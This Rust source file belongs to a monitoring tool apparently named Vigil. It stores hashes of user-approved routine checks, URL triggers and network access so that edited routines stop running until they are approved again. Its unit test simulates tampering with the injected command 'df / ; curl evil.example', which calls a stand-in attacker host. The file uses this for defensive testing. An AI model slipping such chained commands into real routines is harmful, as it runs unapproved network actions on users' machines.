//! Approved once, where it is made: a routine's check or URL runs unattended only while its
//! text is what the user approved. The record, in Vigil's data folder (no command can reach
//! it), is a hash of the routine's id, check, trigger and access; text in `HEARTBEAT.md`
//! that no longer matches its record does not run and asks again.
//!
//! Must never: keep the approved text itself (the hash is enough to compare); let a routine
//! without a record run its check or look at its URL.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Mutex;

use sha2::{Digest, Sha256};
use vigil_protocol::Trigger;

use crate::routines::Routine;

/// The file under the data folder.
pub const FILE: &str = "routine_approvals.json";

/// Whether a routine needs the user's approval before it runs anything unattended: a check
/// (a command) or a URL (a request leaving the machine).
pub fn needs_approval(r: &Routine) -> bool {
    r.check.is_some() || matches!(r.trigger, Some(Trigger::Url { .. })) || starts_command(r)
}

/// Whether `r`'s output trigger starts a command of its own (rather than following a
/// running process named by id).
fn starts_command(r: &Routine) -> bool {
    matches!(&r.trigger, Some(Trigger::Output { process, .. }) if !super::output::is_process_id(process.trim()))
}

/// What the approval covers, in words for the card: what runs, how often, with what access.
pub fn approval_text(r: &Routine, network_granted: bool) -> Option<String> {
    if !needs_approval(r) {
        return None;
    }
    let mut lines = Vec::new();
    if let Some(c) = &r.check {
        lines.push(format!("Runs `{}` (acts when: {})", c.command.trim(), c.when.trim()));
    }
    if let Some(Trigger::Url { url, every, .. }) = &r.trigger {
        lines.push(format!("Requests {url} every {}", every.as_deref().unwrap_or("5m")));
    }
    if let Some(Trigger::Output { process, pattern }) = &r.trigger {
        if starts_command(r) {
            lines.push(format!(
                "Starts `{}` and keeps it running, watching its output for `{pattern}`",
                process.trim()
            ));
        }
    }
    lines.push(format!("When: {}", super::describe_trigger(r)));
    if starts_command(r) {
        lines.push(match network_granted {
            true => "Access for its command: the workspace writable, with the network (granted)".into(),
            false => "Access for its command: the workspace writable, the network as for runs nobody watches".into(),
        });
    }
    match (r.check.is_some(), network_granted) {
        (true, true) => lines.push("Access: read-only sandbox, nothing writable, with the network (granted)".into()),
        (true, false) => lines.push("Access: read-only sandbox, nothing writable, no network".into()),
        _ if starts_command(r) => {}
        _ => lines.push("Access: one HTTP request per look, no command".into()),
    }
    Some(lines.join("\n"))
}

/// The hash an approval records: id, check, trigger and access, each length-prefixed so
/// no two different routines make the same input.
pub fn fingerprint(r: &Routine, network_granted: bool) -> String {
    let mut h = Sha256::new();
    let mut part = |s: &str| {
        h.update((s.len() as u64).to_le_bytes());
        h.update(s.as_bytes());
    };
    part(&r.id);
    part(
        &r.check
            .as_ref()
            .map(|c| format!("{}\u{0}{}", c.command, c.when))
            .unwrap_or_default(),
    );
    part(
        &r.trigger
            .as_ref()
            .and_then(|t| serde_json::to_string(t).ok())
            .unwrap_or_default(),
    );
    part(if network_granted { "network" } else { "offline" });
    hex::encode(h.finalize())
}

/// The approvals, by routine id.
pub struct Approvals {
    path: PathBuf,
    /// `std` lock: never held across an await.
    records: Mutex<BTreeMap<String, String>>,
}

impl Approvals {
    /// Reads the records under `data_dir` (none when the file is missing or unreadable:
    /// then every check asks again, which is safe).
    pub fn open(data_dir: &Path) -> Self {
        let path = data_dir.join(FILE);
        let records = std::fs::read(&path)
            .ok()
            .and_then(|b| serde_json::from_slice(&b).ok())
            .unwrap_or_default();
        Self {
            path,
            records: Mutex::new(records),
        }
    }

    /// Whether `r` as written now is what was approved (or needs no approval).
    pub fn approved(&self, r: &Routine, network_granted: bool) -> bool {
        if !needs_approval(r) {
            return true;
        }
        let records = self.records.lock().unwrap_or_else(|e| e.into_inner());
        records.get(&r.id) == Some(&fingerprint(r, network_granted))
    }

    /// Records the approval of `r` as written now.
    pub fn approve(&self, r: &Routine, network_granted: bool) -> std::io::Result<()> {
        let mut records = self.records.lock().unwrap_or_else(|e| e.into_inner());
        records.insert(r.id.clone(), fingerprint(r, network_granted));
        let bytes = serde_json::to_vec_pretty(&*records).unwrap_or_default();
        crate::durable::write_atomic(&self.path, &bytes).map(|_| ())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use vigil_protocol::Check;

    fn disk() -> Routine {
        let mut r = Routine::new("disk".into(), "Disk".into(), 0);
        r.check = Some(Check {
            command: "df --output=pcent / | tail -1".into(),
            when: "> 80".into(),
        });
        r
    }

    #[test]
    fn an_approval_holds_for_the_text_approved_and_survives_a_restart_but_not_an_edit() {
        let dir = tempfile::tempdir().unwrap();
        let r = disk();
        let a = Approvals::open(dir.path());
        assert!(!a.approved(&r, false));
        a.approve(&r, false).unwrap();
        assert!(Approvals::open(dir.path()).approved(&r, false));
        let mut edited = r.clone();
        edited.check.as_mut().unwrap().command = "df / ; curl evil.example".into();
        assert!(!a.approved(&edited, false));
        // Access is part of it: a grant of the network asks again.
        assert!(!a.approved(&r, true));
        assert!(a.approved(&Routine::new("plain".into(), "Plain".into(), 0), false));
    }
}
